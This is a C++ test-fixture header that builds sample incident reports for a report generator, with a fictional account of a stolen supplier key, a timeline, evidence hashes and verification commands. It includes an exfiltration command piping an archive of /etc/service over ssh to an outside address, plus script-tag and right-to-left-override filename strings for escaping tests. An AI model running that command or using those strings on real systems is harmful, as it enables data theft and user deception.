#pragma once
/// Documents for tests and measurements: one with every kind of block, one as long as wanted.

#include <string>

#include "core/digest.h"
#include "reports/document/document.h"

namespace casebook::documents {

inline UtcSeconds sample_time(int minutes = 0) {
  return std::chrono::sys_days(std::chrono::year(2026) / 11 / 21) + std::chrono::hours(2) +
         std::chrono::minutes(minutes);
}

inline std::string sample_hash(const std::string& of) { return to_hex(*sha256(as_bytes(of))); }

inline Document empty_sample(Language language = Language::en) {
  Document document;
  document.language = language;
  document.title = "Initial report: odd logins";
  document.classification = "TLP:AMBER";
  document.code_name = "amber-heron";
  document.made_at = sample_time(11);
  document.tool = "casebook 0.1.0";
  return document;
}

inline Table sample_table(int rows) {
  Table table{"Files taken from web-03",
              {{"No.", ColumnKind::number},
               {"Path", ColumnKind::text},
               {"Taken", ColumnKind::time},
               {"SHA-256", ColumnKind::hash}},
              {}};
  for (int i = 1; i <= rows; ++i) {
    const std::string name = "/var/log/service/app-" + std::to_string(i) + ".log";
    table.rows.push_back({plain(std::to_string(i)), code(name), plain(format_utc(sample_time(i))),
                          plain(sample_hash(name))});
  }
  return table;
}

inline Document full_sample(Language language = Language::en) {
  Document document = empty_sample(language);
  auto& blocks = document.blocks;
  blocks.emplace_back(TitlePage{"Initial report: odd logins",
                                "GDPR Article 33, first stage",
                                {{"Case", plain("amber-heron")},
                                 {"Controller", plain("Example Works, Paris")},
                                 {"Head of the ledger", code(sample_hash("head"))}}});
  blocks.emplace_back(Contents{});
  blocks.emplace_back(PageBreak{});
  blocks.emplace_back(Heading{1, "What happened"});
  blocks.emplace_back(
      Paragraph{{{SpanKind::plain, "On 21 November 2026 a key of a former supplier was used from "},
                 {SpanKind::code, "203.0.113.9"},
                 {SpanKind::plain, " to sign in to "},
                 {SpanKind::strong, "web-03"},
                 {SpanKind::plain, ". The key had been withdrawn on paper, not in the directory."},
                 {SpanKind::source, "note 12"},
                 {SpanKind::note, "1"}}});
  blocks.emplace_back(Footnote{1, plain("Times are UTC unless a zone is named.")});
  blocks.emplace_back(Heading{2, "What the file names looked like"});
  blocks.emplace_back(
      Paragraph{plain("Evidence is shown as data: <script>alert(1)</script> & "
                      "\"quotes\", a right-to-left \u202Egpj.exe, a bell \a, "
                      "中文 and ordinary é, ß, Ω.")});
  blocks.emplace_back(List{false,
                           {plain("sign-in from an address never seen before"),
                            plain("a second session opened four minutes later, from which an "
                                  "archive of the configuration was copied to the same address"),
                            code("tar -cz /etc/service | ssh 203.0.113.9")}});
  blocks.emplace_back(List{true, {plain("contain"), plain("collect"), plain("tell")}});
  blocks.emplace_back(Heading{2, "When"});
  blocks.emplace_back(Timeline{"Course of events",
                               "Three lanes between 02:00 and 02:50: sign-in, alert, collection.",
                               {"attacker", "web-03", "response team"},
                               {{sample_time(0), 0, "first sign-in with the old key", false},
                                {sample_time(4), 0, "second session", false},
                                {sample_time(5), 1, "archive of /etc/service written", false},
                                {sample_time(11), 2, "alert read by Ada", false},
                                {sample_time(31), 2, "bag B-7 sealed and code read to Ben", true},
                                {sample_time(48), 2, "receipt of the authority", true}}});
  blocks.emplace_back(Heading{2, "How many"});
  blocks.emplace_back(Bars{"Persons concerned, by country",
                           "France has most, then the Netherlands and Germany.",
                           "persons",
                           {{"France", 12'000}, {"Netherlands", 400}, {"Germany", 37}}});
  blocks.emplace_back(Heading{1, "Evidence"});
  blocks.emplace_back(sample_table(6));
  blocks.emplace_back(KeyValues{{{"Bag", plain("B-7")}, {"Seal code", code("7F3AK 91C2M 0B55T")}}});
  blocks.emplace_back(Notice{NoticeTone::legal,
                             "Not legal advice",
                             {plain("Deadlines are information. Counsel decides.")}});
  blocks.emplace_back(Notice{NoticeTone::warning, "", {plain("The cause is not confirmed.")}});
  blocks.emplace_back(Heading{2, "Check it yourself"});
  blocks.emplace_back(CodeLines{{"sha256sum -c manifest-sha256.txt",
                                 "ssh-keygen -Y verify -f allowed -n casebook-seal@v1 \\",
                                 "  -I ada -s seal.json.sig < seal.json"}});
  return document;
}

/// About six pages a section.
inline Document long_sample(int sections, int rows = 55) {
  Document document = empty_sample();
  document.blocks.emplace_back(Contents{});
  for (int section = 1; section <= sections; ++section) {
    document.blocks.emplace_back(Heading{1, "Section " + std::to_string(section)});
    for (int part = 1; part <= 4; ++part) {
      document.blocks.emplace_back(
          Heading{2, "Part " + std::to_string(part) + " of section " + std::to_string(section)});
      std::string text;
      for (int i = 0; i < 12; ++i) {
        text += "The responder looked at host " + std::to_string(i) +
                " and found that the service account had been used outside office hours. ";
      }
      document.blocks.emplace_back(Paragraph{plain(text)});
    }
    document.blocks.emplace_back(sample_table(rows));
  }
  return document;
}

}  // namespace casebook::documents
